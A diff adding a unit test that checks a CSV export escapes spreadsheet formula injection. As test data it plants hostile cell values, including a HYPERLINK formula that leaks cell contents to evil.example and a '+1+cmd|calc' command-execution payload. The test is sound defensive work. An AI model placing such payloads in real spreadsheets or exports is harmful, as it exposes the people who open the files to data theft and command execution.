@@ -45,4 +45,23 @@ describe(renderAgreementsCsv.name, () => {
     const rows = parse(renderAgreementsCsv(agreementsFixture(false)), { bom: true, columns: true }) as Record<string, string>[];
     expect(rows[1]).toMatchObject({ slug: 'solar-park', value: '', currency: '', confidential: 'true' });
   });
+
+  it('neutralises every cell a spreadsheet would run as a formula, and leaves the rest as they are', () => {
+    const model = agreementsFixture(true);
+    const hostile = '=HYPERLINK("http://evil.example/?leak="&A1,"Open")';
+    const [first, second] = model.agreements;
+    if (!first || !second) throw new Error('the fixture has two agreements');
+    const planted = {
+      ...model,
+      agreements: [
+        { ...first, parties: [hostile, 'Samarkand Region'], title: '+1+cmd|calc', track: '-2+3', session: '@SUM(1+1)' },
+        { ...second, title: '\t=1+1', parties: ['\r=1+1', 'China'], session: 'Signing = ceremony' },
+      ],
+    };
+    const rows = parse(renderAgreementsCsv(planted), { bom: true, columns: true }) as Record<string, string>[];
+    expect(rows[0]).toMatchObject({ parties: `'${hostile}; Samarkand Region`, title: "'+1+cmd|calc", track: "'-2+3", session: "'@SUM(1+1)" });
+    expect(rows[1]).toMatchObject({ title: "'\t=1+1", parties: "'\r=1+1; China", session: 'Signing = ceremony', value: '1570000000.00' });
+    // Nothing else in the file starts with a formula character.
+    for (const row of rows) for (const cell of Object.values(row)) expect(/^[=+\-@\t\r]/.test(cell)).toBe(false);
+  });
 });
